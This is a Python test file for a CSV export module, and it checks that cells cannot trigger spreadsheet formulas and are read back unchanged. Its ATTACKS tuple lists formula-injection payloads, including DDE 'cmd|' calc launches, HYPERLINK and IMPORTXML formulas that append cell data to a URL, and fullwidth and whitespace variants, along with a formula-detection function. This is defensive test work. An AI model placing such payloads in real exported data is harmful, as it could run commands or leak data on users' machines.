"""Cells of the tables: no spreadsheet runs one, and each can be read back as it was."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from masa.downloads.data.cells import Cell, lines, read_back, safe, written

#: What has been used to make a spreadsheet fetch, run or send something.
ATTACKS = (
    "=1+1",
    "=HYPERLINK(\"https://example.org/?\"&A1,\"More\")",
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(\"https://example.org\")",
    "=IMPORTXML(CONCAT(\"https://example.org/?\",A1),\"//a\")",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-2+3",
    "--1",
    "-",
    "+44 1632 960000",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "%0A=1+1\n=2",
    "'=1+1",
    "''=1+1",
)  # fmt: skip
HARMLESS = ("-5", "-0.5", "-12000", "01632 960000", "999", "£-5", "a=b", "5-7", "tom@example.org")


def starts_a_formula(cell: str) -> bool:
    """As a suspicious spreadsheet decides: after any space, and with wide characters folded."""
    folded = cell.lstrip().translate(str.maketrans("＝＋－＠", "=+-@"))
    if re.fullmatch(r"-\d+(\.\d+)?", cell):
        return False
    return folded.startswith(("=", "+", "-", "@")) or cell.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize("text", ATTACKS)
def test_no_attack_reaches_a_spreadsheet(text: str) -> None:
    ((cell,),) = csv.reader(io.StringIO(lines([(text,)]), newline=""), strict=True)
    assert not starts_a_formula(cell)
    assert read_back(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_is_left_alone(text: str) -> None:
    assert safe(text) == text


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_any_text_can_be_read_back_and_none_is_a_formula(text: str) -> None:
    assert read_back(safe(text)) == text
    assert not starts_a_formula(safe(text))


TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))


@given(st.lists(st.lists(TEXTS, min_size=3, max_size=3), min_size=1))
def test_a_table_comes_back_from_the_csv_module_as_it_was(table: list[list[str]]) -> None:
    read = csv.reader(io.StringIO(lines(table), newline=""), strict=True)
    assert [[read_back(cell) for cell in row] for row in read] == table


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        (None, ""),
        ("", ""),
        (0, "0"),
        (False, "false"),
        (True, "true"),
        (Decimal("12500.50"), "12500.50"),
        (Decimal("1E+3"), "1000"),
        (date(2026, 4, 1), "2026-04-01"),
    ],
)
def test_values_are_written_plainly_and_nothing_becomes_nought(cell: Cell, text: str) -> None:
    assert written(cell) == text


def test_lines_end_as_the_standard_says_and_quotes_are_doubled() -> None:
    assert lines([("a", 'b "c"'), ("d,e", "f\ng")]) == 'a,"b ""c"""\r\n"d,e","f\ng"\r\n'
